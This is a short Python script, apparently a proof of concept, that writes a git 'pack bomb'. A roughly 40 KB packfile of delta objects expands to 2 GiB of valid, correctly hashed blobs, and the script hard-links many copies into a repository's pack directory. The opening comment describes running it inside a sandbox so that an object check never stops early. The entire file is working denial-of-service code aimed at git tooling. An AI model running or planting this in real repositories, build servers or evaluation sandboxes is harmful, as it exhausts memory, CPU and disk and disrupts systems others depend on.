# inside the sandbox: one ~40 KB pack of 33 objects whose deltas rebuild 32 x 64 MiB (2 GiB, every object hashing to its
# name, so the check never stops early), hard-linked under argv[1] names in .git/objects/pack
import sys, zlib, hashlib, struct, os
N = int(sys.argv[1])
def hdr(t, size):
    c = (t << 4) | (size & 15); size >>= 4; out = bytearray()
    while size:
        out.append(c | 0x80); c = size & 0x7f; size >>= 7
    out.append(c); return bytes(out)
def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7f; v >>= 7
        if v: out.append(b | 0x80)
        else: out.append(b); return bytes(out)
def ofs(rel):
    out = [rel & 0x7f]; rel >>= 7
    while rel:
        rel -= 1; out.append(0x80 | (rel & 0x7f)); rel >>= 7
    return bytes(reversed(out))
base = b"\0" * 65536
body = bytearray(b"PACK" + struct.pack(">II", 2, 33))
ents = []
o0 = len(body); d = hdr(3, len(base)) + zlib.compress(base); body += d
ents.append((hashlib.sha1(b"blob 65536\0" + base).digest(), o0, zlib.crc32(d)))
chunk = hashlib.sha1()
for i in range(32):
    tail = struct.pack(">Q", i)
    dst = 1023 * 65536 + 8
    delta = varint(65536) + varint(dst) + b"\x80" * 1023 + bytes([8]) + tail
    o = len(body); d = hdr(6, len(delta)) + ofs(o - o0) + zlib.compress(delta); body += d
    h = hashlib.sha1(b"blob %d\0" % dst)
    for _ in range(1023): h.update(base)
    h.update(tail)
    ents.append((h.digest(), o, zlib.crc32(d)))
body += hashlib.sha1(body).digest()
ents.sort()
idx = bytearray(b"\xfftOc" + struct.pack(">I", 2))
for i in range(256): idx += struct.pack(">I", sum(1 for e in ents if e[0][0] <= i))
for e in ents: idx += e[0]
for e in ents: idx += struct.pack(">I", e[2])
for e in ents: idx += struct.pack(">I", e[1])
idx += body[-20:]; idx += hashlib.sha1(idx).digest()
pd = ".git/objects/pack/"
open(pd + "bomb.pack", "wb").write(body); open(pd + "bomb.idx", "wb").write(idx)
for k in range(N):
    os.link(pd + "bomb.pack", pd + "pack-b%05d.pack" % k); os.link(pd + "bomb.idx", pd + "pack-b%05d.idx" % k)
print("pack bytes", len(body), "copies", N)
